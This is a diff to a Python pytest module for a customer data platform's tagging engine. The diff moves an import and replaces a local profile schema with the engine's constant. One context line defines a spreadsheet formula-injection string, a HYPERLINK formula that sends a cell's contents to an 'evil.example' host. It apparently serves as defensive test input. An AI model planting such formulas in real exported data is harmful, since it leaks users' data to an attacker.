@@ -15,23 +15,14 @@ from typing import Any
 
 import pytest
 
+from cdp.tags import engine as E
+
 pytestmark = pytest.mark.spark
 
 D1 = dt.date(2026, 6, 30)
 D2 = dt.date(2026, 7, 10)
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
-PROFILE_SCHEMA = (
-    "one_id string, mobile_count int, member_card_count int, unionid_count int, openid_count int, "
-    "external_userid_count int, buyer_id_count int, name_masked string, gender string, birthday date, city string, "
-    "memberships array<struct<brand_id:string,member_card_no:string,level:string,is_paid_member:boolean,"
-    "marketing_consent:boolean,registered_at:timestamp>>, is_member boolean, is_paid_member boolean, "
-    "has_marketing_consent boolean, has_app boolean, home_store_id string, home_city string, "
-    "wecom_guide_userids array<string>, is_wecom_added boolean, channels array<string>, "
-    "first_purchase_at timestamp, last_purchase_at timestamp, first_purchase_date date, last_purchase_date date, "
-    "order_count int, total_amount decimal(18,2), order_count_pos int, order_count_miniprogram int, "
-    "order_count_ecommerce int, amount_pos decimal(18,2), amount_miniprogram decimal(18,2), "
-    "amount_ecommerce decimal(18,2), as_of_date date")
 WECOM_SCHEMA = ("external_userid string, guide_userid string, store_id string, name_masked string, gender string, "
                 "unionid_hash string, remark_mobile_hashes array<string>, remark_mobiles_masked array<string>, "
                 "tags array<struct<group_name:string,tag_name:string>>, added_at timestamp, "
@@ -147,7 +138,7 @@ def world(spark) -> dict[str, Any]:
               {"event_id": "e2", "event_type": "app_login", "event_at": dt.datetime(2026, 6, 1), "one_id": "A",
                "unionid_hash": "uh-A", "mobile_hash": "mh-A"}]
     return {
-        "gold_profiles": frame(spark, PROFILE_SCHEMA, profiles),
+        "gold_profiles": frame(spark, E.PROFILES_SCHEMA, profiles),
         "gold_order_facts": frame(spark, E.ORDER_FACTS_SCHEMA, facts),
         "gold_lifecycle": frame(spark, E.LIFECYCLE_SCHEMA, lifecycle),
         "gold_rfm": frame(spark, E.RFM_SCHEMA, rfm),
@@ -166,8 +157,6 @@ def world(spark) -> dict[str, Any]:
                                                         {"store_id": "ST2", "city": "杭州"}]),
     }
 
-
-from cdp.tags import engine as E  # noqa: E402
 
 
 @pytest.fixture(scope="module")
